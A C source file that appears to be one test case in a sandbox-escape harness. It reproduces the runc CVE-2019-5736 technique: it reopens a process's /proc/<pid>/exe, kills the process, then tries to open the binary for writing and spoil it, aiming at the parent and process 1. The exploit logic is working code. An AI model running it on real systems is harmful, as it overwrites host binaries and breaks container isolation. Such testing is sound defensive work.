/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The program that started this run, kept by a descriptor until it has ended, and then opened for writing through /proc: runc
 * CVE-2019-5736. Bare it is a program of the host that ends; under Ward it is whatever process 1, or the parent, runs.
 * class: write
 * plants: launcher
 * args: pid
 * escaped: changed-bytes launcher
 */
#include <signal.h>

#include "attempt.h"

static int reopen(int pid)
{
	char path[64];
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/exe", pid);
	fd = open(path, O_PATH);
	if (fd < 0)
		return refused("exe");
	(void)kill(pid, SIGKILL);
	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
	for (int i = 0; i < 50; i++) {
		int to = open(path, O_WRONLY);

		if (to >= 0)
			return spoil(to);
		usleep(10 * 1000);
	}
	return refused("open");
}

ATTEMPT(write_launcher)
{
	if (reopen(number("pid")) == ESCAPED || getppid() > 2)
		return REFUSED;
	return reopen(getppid()) == ESCAPED || reopen(1) == ESCAPED ? ESCAPED : REFUSED;
}
